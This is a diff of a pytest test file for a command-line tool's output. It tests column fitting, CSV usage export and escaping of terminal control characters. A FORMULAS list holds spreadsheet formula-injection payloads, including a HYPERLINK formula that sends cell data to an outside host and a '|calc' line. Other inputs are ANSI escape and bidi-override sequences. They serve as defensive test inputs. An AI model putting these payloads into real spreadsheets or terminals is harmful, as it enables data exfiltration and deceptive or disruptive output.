@@ -1,16 +1,26 @@
-"""An envelope on a terminal: none of its words is obeyed, and its last line tells the truth."""
+"""Terminal output: envelopes, tables, usage and escaped text."""
 
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import json
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
+import typer
+from hypothesis import given
+from hypothesis import strategies as st
 
+from fumehood.budgets.model import BudgetStanding, Period, Unit, UsageRow, UsageTable
+from fumehood.cli.escaping import indented, json_document, json_line, json_lines, printable, visible
+from fumehood.cli.exits import ExitCode, fail
 from fumehood.cli.options import age
 from fumehood.cli.show import show_calls, show_envelope, show_json
+from fumehood.cli.tables import Field, fitting, show_table
+from fumehood.cli.usage import as_cell, show_usage, write_csv
 from fumehood.core.call_log import CallRecord
 from fumehood.core.envelope import Envelope, ErrorInfo
 from support.answers import envelope_bytes
@@ -170,3 +180,225 @@ def test_json_of_an_envelope_is_whole(capsys: pytest.CaptureFixture[str]) -> Non
     data = {"stdout": "", "files": [], "content_base64": "AAE="}
     show_envelope(envelope(data=data), as_json=True)
     assert json.loads(capsys.readouterr().out)["data"] == data
+
+
+# -- What is shown where there is little room ----------------------------------------------
+
+FIELDS = [Field("id", whole=True), Field("scopes", drop=1), Field("agents", drop=2), Field("valid")]
+ROW = ["0123456789abcdef", "call, approve", "clerk", "True"]
+
+
+@pytest.mark.parametrize(
+    ("width", "kept"),
+    [(80, [0, 1, 2, 3]), (51, [0, 1, 2, 3]), (50, [0, 1, 3]), (30, [0, 3]), (5, [0, 3])],
+)
+def test_least_important_columns_go_first_and_the_others_never(width: int, kept: list[int]) -> None:
+    assert fitting(FIELDS, [ROW], width) == kept
+
+
+def test_long_cells_are_folded_before_a_column_goes() -> None:
+    fields = [Field("name"), Field("description", drop=1)]
+    assert fitting(fields, [["clerk", "word " * 100]], 80) == [0, 1]
+
+
+def test_no_rows_are_a_head_alone() -> None:
+    assert fitting(FIELDS, [], 80) == [0, 1, 2, 3]
+
+
+def test_nothing_is_cut_off_and_what_is_left_out_is_named(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("COLUMNS", "36")
+    fields = [Field("name"), *FIELDS[1:]]
+    show_table(fields, [["x" * 40, "call", "clerk", "True"]])
+    shown = capsys.readouterr()
+    assert shown.out.count("x") == 40
+    assert max(map(len, shown.out.splitlines())) <= 36
+    assert shown.err == "Hidden columns: scopes, agents. See --json.\n"
+
+
+def test_what_somebody_wrote_cannot_move_the_cursor(capsys: pytest.CaptureFixture[str]) -> None:
+    show_table([Field("what")], [["\x1b[2J[red]word[/red]"]])
+    shown = capsys.readouterr().out
+    assert "\x1b" not in shown
+    assert "[red]word[/red]" in shown
+    assert printable("a\x07b\nc") == "a\\u{0007}b\nc"
+
+
+def test_words_are_kept_whole_where_a_column_less_makes_room(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("COLUMNS", "80")
+    fields = [
+        Field("tool"), Field("runs as", drop=1), Field("from", drop=2), Field("description"),
+    ]  # fmt: skip
+    rows = [
+        [
+            "run_restricted_python@1.0.0",
+            "restricted_python, dangerous",
+            "builtin",
+            "Runs a program",
+        ],
+        ["a", "workspace:write", "entry_point", "Writes one file of text into the directory"],
+    ]
+    show_table(fields, rows)
+    shown = capsys.readouterr()
+    words = {word for row in rows for cell in (row[0], row[1], row[3]) for word in cell.split()}
+    assert words <= set(shown.out.split())
+    assert max(map(len, shown.out.splitlines())) <= 80
+
+
+def test_only_the_widest_words_are_folded_where_not_all_have_room(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("COLUMNS", "80")
+    call = f"call_{'0' * 24}"
+    fields = [Field("tool"), Field("code"), Field("call", whole=True)]
+    show_table(fields, [["a_tool_with_quite_a_long_name", "MEMORY_LIMIT_EXCEEDED", call]])
+    words = capsys.readouterr().out.split()
+    assert {"MEMORY_LIMIT_EXCEEDED", call} <= set(words)
+    assert "a_tool_with_quite_a_long_name" not in words
+
+
+# -- Usage for people and for spreadsheets -------------------------------------------------
+
+
+def row(tool: str | None = "calculator", **fields: Any) -> UsageRow:
+    return UsageRow(**{
+        "group": {"tool": tool}, "calls": 2, "errors": 1, "input_tokens": 3, "output_tokens": 4,
+        "tokens_used": 5, "cost": {"USD": "0.250000"}, **fields,
+    })  # fmt: skip
+
+
+def table(*rows: UsageRow, **fields: Any) -> UsageTable:
+    total = row(group={}, calls=99)
+    return UsageTable(
+        **{"by": ("tool",), "items": rows, "total": total, "has_more": False, **fields}
+    )
+
+
+def lines(*rows: UsageRow) -> list[list[str]]:
+    file = io.StringIO(newline="")
+    write_csv(table(*rows), file)
+    return list(csv.reader(io.StringIO(file.getvalue(), newline="")))
+
+
+@pytest.mark.row("E4")
+def test_csv_has_a_line_a_group_and_no_total() -> None:
+    assert lines(row(), row(None)) == [
+        ["tool", "calls", "errors", "input_tokens", "output_tokens", "tokens_used", "cost",
+         "currency"],
+        ["calculator", "2", "1", "3", "4", "5", "0.250000", "USD"],
+        ["", "2", "1", "3", "4", "5", "0.250000", "USD"],
+    ]  # fmt: skip
+
+
+@pytest.mark.row("E4")
+def test_second_currency_has_a_line_of_its_own_and_counts_no_call_twice() -> None:
+    _, first, second = lines(row(cost={"EUR": "1.000000", "USD": "2.000000"}))
+    assert first[1:] == ["2", "1", "3", "4", "5", "1.000000", "EUR"]
+    assert second == ["calculator", "0", "0", "0", "0", "0", "2.000000", "USD"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?"&A1)', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
+    "\n=1+1", " =1+1", "=1+1\";=1+1", "＝1+1", "|calc", "%0A=1", "\u00a0=1", "\x00=1",
+]  # fmt: skip
+
+
+@pytest.mark.row("E4")
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_is_a_formula(text: str) -> None:
+    """Any caller can ask for a tool of this name; whoever is refused is in the log, too."""
+    cell = lines(row(text))[1][0]
+    first = cell.strip()[0]
+    assert first in ("'", "\\")
+    assert not any(ord(character) < 32 for character in cell)
+
+
+@pytest.mark.row("E4")
+@pytest.mark.parametrize("text", ["calculator", "run_python", "a-b", "x=1", "1", "a@1.0.0", "a+b"])
+def test_harmless_name_stays_as_it_is(text: str) -> None:
+    assert as_cell(text) == text
+
+
+@pytest.mark.row("E4")
+def test_separators_and_quotes_stay_within_their_cell() -> None:
+    assert lines(row('a","b\nc;d'))[1][0] == 'a","b\\u{000a}c;d'
+
+
+@pytest.mark.row("E4")
+def test_table_shows_total_budgets_and_nothing_that_moves_the_cursor(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    budget = BudgetStanding(
+        budget="daily", subject={"agent": "a"}, period=Period.TOTAL, unit=Unit.MONEY,
+        limit="5.000000", spent="1.000000", held="0.000000", left="4.000000", resets_at=None,
+    )  # fmt: skip
+    show_usage(table(row("a\x1b[2J\nb\u202e[red]"), budgets=(budget,)))
+    shown = capsys.readouterr().out
+    assert "\x1b" not in shown
+    assert "\u202e" not in shown
+    assert "[red]" in shown.replace("\n", "").replace(" ", "")
+    assert "99" in shown
+    assert "4.000000" in shown
+    assert "never" in shown
+
+
+# -- One way to show what a terminal would obey, whoever wrote it --------------------------
+
+NASTY_ESCAPING = "a\x1b[2J\u202e\x9b1m\r\u200b"
+
+
+def test_line_ends_stay_only_where_lines_are_wanted() -> None:
+    assert printable("a\n\tb\r") == "a\n\tb\\u{000d}"
+    assert visible("a\n\tb") == "a\\u{000a}\\u{0009}b"
+
+
+def test_one_style_stands_in_a_line_also_within_json() -> None:
+    assert json_line({"a\x1b": "\u202e\r\b\x7f"}) == (
+        '{"a\\u{001b}": "\\u{202e}\\u{000d}\\u{0008}\\u{007f}"}'
+    )
+
+
+def test_backslashes_that_somebody_wrote_are_told_from_escapes() -> None:
+    assert json_line("\\u001b \\b") == '"\\\\u001b \\\\b"'
+    assert json_line("\\\x1b") == '"\\\\\\u{001b}"'
+
+
+def test_no_line_of_a_message_begins_where_one_of_ours_could() -> None:
+    assert indented("bad\nnothing ran") == "bad\n    nothing ran"
+
+
+JSON = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.text(),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
+    max_leaves=8,
+)
+
+
+@given(JSON)
+def test_json_for_a_terminal_stays_json_and_does_nothing_there(value: Any) -> None:
+    document = json_document(value)
+    assert json.loads(document) == value
+    assert all(line.isprintable() for line in document.split("\n"))
+
+
+@given(st.text() | st.just(NASTY_ESCAPING))
+def test_nothing_that_is_shown_is_obeyed(text: str) -> None:
+    assert visible(text).isprintable()
+    assert json_line(text).isprintable()
+    assert all(line.isprintable() for line in json_lines([text]).split("\n"))
+
+
+# -- How a command ends with a message -----------------------------------------------------
+
+
+def test_words_of_others_in_a_message_cannot_change_a_terminal(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    with pytest.raises(typer.Exit):
+        fail("The index said: \x1b]0;title\x07\x1b[2J\r\u202ebad\nMend that.", ExitCode.UNAVAILABLE)
+    assert capsys.readouterr().err == (
+        "The index said: \\u{001b}]0;title\\u{0007}\\u{001b}[2J\\u{000d}\\u{202e}bad\nMend that.\n"
+    )
